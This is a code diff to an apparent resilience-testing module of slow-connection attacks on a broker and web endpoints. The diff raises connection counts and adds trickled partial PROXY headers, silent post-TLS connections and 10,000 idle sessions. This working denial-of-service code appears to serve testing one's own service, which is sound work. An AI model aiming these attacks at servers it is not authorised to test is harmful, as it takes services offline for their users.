@@ -4,7 +4,7 @@ import ssl
 import struct
 
 import wire
-from common import dial, dial_tls, hold, logged_in, tls
+from common import answer, dial, dial_tls, hold, logged_in, tls
 
 BIG = 1_000_000
 LONG_CONNECT = wire.connect("c" * 60_000, "u" * 20_000, "p" * 20_000)
@@ -57,11 +57,11 @@ def half_headers_plain(site, seconds):
 
 
 def unfinished_bodies(site, seconds):
-    """64 connections, each with most of a body of 8 MB that never ends."""
+    """500 connections, each with most of a body of 8 MB that never ends."""
     context, size = tls(site), 8_000_000
     request = b"POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
     request += b"Content-Length: %d\r\n\r\n" % size + b" " * (size - 65536)
-    return hold(seconds, 200, 64, lambda number: dial_tls(site, context, number), request)
+    return hold(seconds, 200, 500, lambda number: dial_tls(site, context, number), request)
 
 
 def half_connect(site, seconds):
@@ -90,7 +90,8 @@ def open_streams(site, seconds):
     context = tls(site, ["h2"])
     headers = wire.H2_REQUEST + wire.h2_literal(b"x-long", b"x" * 120) * 60
     streams = b"".join(wire.h2_frame(1, 4, 2 * at + 1, headers) for at in range(64))
-    return 64 * hold(seconds, 100, 1_000, lambda number: dial_tls(site, context, number), wire.h2_preface() + streams, lasting_s=10)
+    held = hold(seconds, 100, 1_000, lambda number: dial_tls(site, context, number), wire.h2_preface() + streams, lasting_s=10)
+    return {**held, "number": 64 * held["number"]}
 
 
 def half_web_socket(site, seconds):
@@ -102,8 +103,32 @@ def half_web_socket(site, seconds):
     return hold(seconds, 200, 1_000, lambda number: dial(site["ws"], number), key + frame)
 
 
+# Signature, and TCP over IPv4 with 1,000 bytes to follow.
+PROXY_HEADER = b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + struct.pack(">H", 1_000)
+
+
+def half_proxy_header(site, seconds):
+    """4,000 connections with half a header of a proxy and a byte of it a second, where the broker expects one."""
+    return hold(seconds, 1_000, 4_000, lambda number: dial(site["wss"], number), PROXY_HEADER, b"\0")
+
+
+def silent_after_tls(site, seconds):
+    """4,000 connections that finish a handshake of TLS and say nothing more."""
+    context = tls(site, ["mqtt"])
+    return hold(seconds, 500, 4_000, lambda number: dial_tls(site, context, number, "mqtts"))
+
+
+def idle_sessions(site, seconds):
+    """10,000 sessions of one account that are connected and say nothing."""
+    answer(logged_in(site, "idle", durable=False), wire.Packets())
+    return hold(seconds, 1_000, 10_000, lambda number: logged_in(site, f"idle-{number}", False, number=number))
+
+
 ATTACKS = {
     "silent, TCP": silent_tcp,
+    "silent after TLS": silent_after_tls,
+    "half a header of a proxy": half_proxy_header,
+    "idle sessions": idle_sessions,
     "half a ClientHello": half_hello,
     "silent, TLS": silent_tls,
     "half an upgrade, WebSocket": half_upgrade,
